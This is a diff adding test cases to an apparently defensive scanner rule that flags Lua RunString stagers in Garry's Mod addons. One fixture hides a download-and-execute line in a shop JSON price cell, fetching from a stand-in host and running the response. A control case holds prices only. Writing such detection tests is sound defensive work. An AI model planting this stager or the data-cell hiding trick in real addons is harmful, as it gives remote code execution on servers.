@@ -1190,4 +1190,43 @@ describe('runstring', () => {
   it("a web radio stream's title only shown (no finding)", () => {
     expect(check(rule, radio(' Radio.NowPlaying = meta.StreamTitle or "?"'))).toEqual([]);
   });
+  /**
+   * Shop items shipped as JSON rows whose price cells starting with "=" are compiled by a
+   * helper with early returns; the sixth row's cell is `last`.
+   */
+  const priceRows = (last: string): Record<string, string> => ({
+    'data_static/shop/items.json': JSON.stringify([
+      ...['Crate', 'Lamp', 'Radio', 'Kit', 'Battery'].map((name, i) => ({
+        name,
+        price: `=${100 * (i + 1)}*RATE`,
+      })),
+      { name: 'Jar', price: last },
+    ]),
+    'lua/autorun/server/sv_shop.lua': [
+      'local env = setmetatable({ RATE = 2 }, { __index = _G })',
+      'local function Eval(cell)',
+      ' if cell:sub(1, 1) ~= "=" then return tonumber(cell) end',
+      ' local fn = CompileString("return " .. cell:sub(2), "price", false)',
+      ' if not isfunction(fn) then return nil end',
+      ' setfenv(fn, env)',
+      ' local ok, v = pcall(fn)',
+      ' return ok and tonumber(v) or nil',
+      'end',
+      'hook.Add("loadCustomDarkRPItems", "shop", function()',
+      ' local rows = util.JSONToTable(file.Read("data_static/shop/items.json", "GAME") or "[]") or {}',
+      ' for _, row in ipairs(rows) do',
+      '  local price = Eval(row.price)',
+      '  if price then DarkRP.createEntity(row.name, { price = price }) end',
+      ' end',
+      'end)',
+    ].join('\n'),
+  });
+  it('a stager in a late row of a shipped sheet, compiled by a helper that may return early', () => {
+    const stager =
+      '=(function() http.Fetch("https://sheet.example.invalid/x", function(b) RunString(b) end) return 5 end)()';
+    expect(worst(check(rule, priceRows(stager)))).toBe(RANK.critical);
+  });
+  it('the same sheet with prices only (no finding)', () => {
+    expect(check(rule, priceRows('=7*RATE'))).toEqual([]);
+  });
 });
